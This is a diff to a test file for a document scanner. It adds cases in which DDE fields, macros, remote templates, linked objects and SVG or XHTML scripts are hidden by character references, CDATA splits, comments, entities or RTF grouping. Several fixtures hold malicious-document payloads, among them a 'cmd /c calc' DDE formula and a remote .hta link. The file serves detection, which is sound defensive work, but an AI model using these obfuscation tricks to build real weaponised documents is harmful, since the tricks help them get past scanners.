@@ -8,6 +8,10 @@ const bench = useOpener();
 
 const OFFICE = 'http://schemas.microsoft.com/office/2006/relationships';
 
+const SVG = 'xmlns="http://www.w3.org/2000/svg"';
+const SVG_AS_S = 'xmlns:s="http://www.w3.org/2000/svg"';
+const XHTML = 'xmlns:xhtml="http://www.w3.org/1999/xhtml"';
+
 /** An OOXML file of parts whose names only its relationships tell. */
 function ooxml(parts: Readonly<Record<string, string>>): Buffer {
   const all = { '[Content_Types].xml': '<Types/>', 'main/document.xml': '<document/>', ...parts };
@@ -31,9 +35,30 @@ test.each<[string, Buffer, string]>([
     }),
     'dde',
   ],
+  ['a field spelled in references', field('D&#68;E&#x41;UTO c:\\\\x'), 'dde'],
+  ['a field in a section of literal text', field('<![CDATA[DDEAUTO c:\\\\x]]>'), 'dde'],
+  ['a field around a section of literal text', field('D<![CDATA[DEAU]]>TO c:\\\\x'), 'dde'],
+  ['a field around a remark', field('DD<!-- a -->EAUTO c:\\\\x'), 'dde'],
+  ['an attribute spelled in references', ooxml({ 'x/a.xml': '<v:fldSimple v:instr="DD&#69; c:\\\\x"/>' }), 'dde'],
+  [
+    'a field of entities',
+    ooxml({ 'x/a.xml': '<!DOCTYPE w [<!ENTITY d "DDE">]><w><w:instrText>&d;AUTO c:\\\\x</w:instrText></w>' }),
+    'dde',
+  ],
   ['a link of Excel', ooxml({ 'x/a.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }), 'dde'],
   ['a link of Calc', ooxml({ 'x/a.xml': '<office:dde-source office:dde-application="soffice"/>' }), 'dde'],
   ['a project of macros', related(`${OFFICE}/vbaProject`), 'vba'],
+  ['a project of macros by references', related(`${OFFICE}/vbaProjec&#116;`), 'vba'],
+  [
+    'a template by references',
+    ooxml({
+      'main/_rels/document.xml.rels':
+        '<Relationships><Relationship Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplat&#101;"' +
+        ' TargetMode="&#69;xternal" Target="https://192.0.2.1/a.dotm"/></Relationships>',
+    }),
+    'remote-template',
+  ],
+  ['an object of another computer', ole2({ 'ObjectPool/\x01Ole': urlLink() }), 'remote-template'],
   ['a sheet of macros', related(`${OFFICE}/xlMacrosheet`), 'xlm'],
   ['a sheet of macros of another language', related(`${OFFICE}/xlIntlMacrosheet`), 'xlm'],
   ['a control', related('http://schemas.openxmlformats.org/officeDocument/2006/relationships/control'), 'activex'],
@@ -42,6 +67,8 @@ test.each<[string, Buffer, string]>([
     ooxml({ 'x/a.xml': '<a:hlinkMouseOver action="ppaction://program"/>' }),
     'program-link',
   ],
+  ['the same by references', ooxml({ 'x/a.xml': '<a:hlinkClick action="ppaction&#58;//program"/>' }), 'program-link'],
+  ['an event of a text', ooxml({ 'x/a.xml': '<o xlink:href="vnd.sun.star.script&#58;a"/>' }), 'odf-macros'],
   ['a link of a binary workbook', zip([{ name: 'xl/x.dat', content: xlsbLink(1) }]), 'dde'],
   [
     'a link of a binary workbook behind another record',
@@ -65,6 +92,29 @@ test.each<[string, Buffer, string]>([
     'a flat document that runs a macro',
     Buffer.from('<office:document xlink:href="vnd.sun.star.script:a"/>'),
     'odf-macros',
+  ],
+  [
+    'macros of a flat document',
+    Buffer.from('<office:document><q:library-embedded q:name="S"/></office:document>'),
+    'odf-macros',
+  ],
+  ['a template of a flat document', flat('attachedTemplate" TargetMode="External'), 'remote-template'],
+  ['a control of a flat document', flat('control'), 'activex'],
+  ['a formula of a flat workbook', Buffer.from('<Cell ss:Formula="&#61;cmd&#x7c;&apos;/c calc&apos;!A1"/>'), 'dde'],
+  ['a field spread over groups', Buffer.from("{\\rtf1{\\*\\fldinst {D}{\\b D}{E\\'41UTO} c:\\\\x}}"), 'dde'],
+  ['an object of another computer', linked('http://192.0.2.1/a.hta'), 'remote-template'],
+  ['a page in data', Buffer.from(`<?xml version="1.0"?><a><svg ${SVG} onload="x()"/></a>`), 'html-script'],
+  [
+    'a page in data by a prefix',
+    Buffer.from(`<?xml version="1.0"?><a ${SVG_AS_S}><s:g onload="x()"/></a>`),
+    'html-script',
+  ],
+  [
+    'a page in data by an entity',
+    Buffer.from(
+      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY n "http://www.w3.org/1999/xhtml">]><a xmlns:h="&n;"><h:script>x()</h:script></a>',
+    ),
+    'html-script',
   ],
   ['a template from the web', rtf('http://192.0.2.1/a.dotm'), 'remote-template'],
   ['a template from a share', rtf('\\\\\\\\192.0.2.1\\\\a.dotm'), 'remote-template'],
@@ -101,6 +151,16 @@ test.each<[string, Buffer]>([
   ['a link of a binary workbook to another', zip([{ name: 'xl/x.dat', content: xlsbLink(0) }])],
   ['a package of another kind', ole2({ 'ObjectPool/\x01Ole10Native': packageLink(3) })],
   ['a template on the disk of its writer', rtf('C:\\\\Users\\\\a\\\\Normal.dotm')],
+  ['a linked object on the disk of its writer', linked('C:\\a.xlsx')],
+  [
+    'markup in the text of a document',
+    field('&lt;w:instrText&gt;DDEAUTO&lt;/w:instrText&gt;'.replaceAll('DDEAUTO', 'PAGE')),
+  ],
+  [
+    'a text about fields',
+    ooxml({ 'x/a.xml': '<?xml version="1.0"?><w:t>&#60;w:instrText>DDEAUTO&#60;/w:instrText></w:t>' }),
+  ],
+  ['an object in a document of LibreOffice', Buffer.from(`<?xml version="1.0"?><a ${XHTML}><draw:object/></a>`)],
   ['a quotation of numbers', ooxml({ 'x/a.xml': '<w:instrText>QUOTE 2024 12 31</w:instrText>' })],
   ['a link to a slide', ooxml({ 'x/a.xml': '<a:hlinkClick action="ppaction://hlinksldjump"/>' })],
   ['an animation of a colour', svg('<set attributeName="fill" to="red"/>')],
@@ -112,6 +172,40 @@ test.each<[string, Buffer]>([
   const { traits, findings } = await bench.examine(content);
   expect({ traits, findings }).toEqual({ traits: [], findings: [] });
 });
+
+function field(text: string): Buffer {
+  return ooxml({ 'x/a.xml': `<w:p><w:instrText>${text}</w:instrText></w:p>` });
+}
+
+function flat(kind: string): Buffer {
+  return Buffer.from(
+    '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">' +
+      `<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://192.0.2.1/a"/></pkg:package>`,
+  );
+}
+
+/** [MS-OLEDS] 2.3.3: the head of the stream, and an address in it. */
+function urlLink(): Buffer {
+  const head = Buffer.from('01000002010000000000000000000000', 'hex');
+  return Buffer.concat([
+    head,
+    Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
+    Buffer.from('http://192.0.2.1/', 'utf16le'),
+  ]);
+}
+
+/** [MS-OLEDS] 2.2.6. */
+function linked(topic: string): Buffer {
+  const text = (letters: string) =>
+    Buffer.concat([Buffer.from([letters.length + 1, 0, 0, 0]), Buffer.from(`${letters}\0`)]);
+  const object = Buffer.concat([
+    Buffer.from('0105000001000000', 'hex'),
+    text('htmlfile'),
+    text(topic),
+    Buffer.alloc(4),
+  ]);
+  return Buffer.from(`{\\rtf1{\\object\\objautlink{\\*\\objdata ${object.toString('hex')}}}}`);
+}
 
 function svg(content: string): Buffer {
   return Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`);
